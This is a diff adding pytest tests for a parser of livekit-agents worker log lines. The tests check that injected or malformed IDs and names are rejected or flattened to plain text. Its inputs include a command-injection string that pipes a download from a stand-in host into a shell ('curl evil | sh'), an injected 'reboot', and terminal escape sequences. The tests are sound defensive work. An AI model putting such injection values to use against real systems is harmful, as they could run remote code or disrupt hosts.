@@ -44,6 +44,19 @@ def test_reading_follows_the_latest_registration(lines: list[str], expected: dic
     assert {key: found[key] for key in expected} == expected
 
 
+@pytest.mark.parametrize("worker_id", ["AW_1; curl evil | sh #", "AW_1\x1b[2J", "", None, 7, ["AW_1"], "AJ_1"])
+def test_registration_with_an_id_that_no_server_makes_is_none(worker_id: Any) -> None:
+    found = worker_log.read([registered("AW_2"), line("registered worker", id=worker_id, agent_name="other", url="ws://other")])
+    assert (found["worker_ids"], found["agent_name"], found["url"]) == (["AW_2"], "sidekick", "ws://livekit:7880")
+
+
+def test_names_in_a_log_are_one_line_of_plain_text() -> None:
+    asked = line("received job request", job_id="AJ_1", dispatch_id="AD_1; reboot", room="r\n\x1b[31mstop it: reboot", agent_name={"a": 1})
+    found = worker_log.read([registered("AW_1", "a\nb\x1b]0;title\x07"), asked])
+    assert found["agent_name"] == "a b"
+    assert found["requests"][0] == {"job_id": "AJ_1", "dispatch_id": None, "room": "r stop it: reboot", "agent_name": None, "time": None}
+
+
 # --- real lines of livekit-agents 1.8.9 (trimmed), one fault each; the older form is of 1.5.7 --------------------------
 
 CLOCK = "2026-11-22T22:45:{:09.6f}+00:00"
